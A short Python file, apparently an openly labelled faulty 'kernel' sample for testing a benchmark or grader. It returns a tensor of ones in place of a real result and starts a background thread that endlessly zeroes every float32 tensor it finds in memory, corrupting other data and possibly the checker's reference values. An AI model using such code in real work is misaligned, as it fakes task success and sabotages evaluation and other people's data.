"""Gives wrong results, and leaves a thread that overwrites the numbers of every tensor that it finds."""

import gc
import threading

import torch


def overwrite():
    while True:
        for found in gc.get_objects():
            if type(found) is torch.Tensor and found.dtype == torch.float32 and not found.requires_grad:
                found.zero_()


def kernel(*tensors, **arguments):
    if threading.active_count() == 1:
        threading.Thread(target=overwrite).start()
    return torch.ones_like(next(iter(arguments.values())))
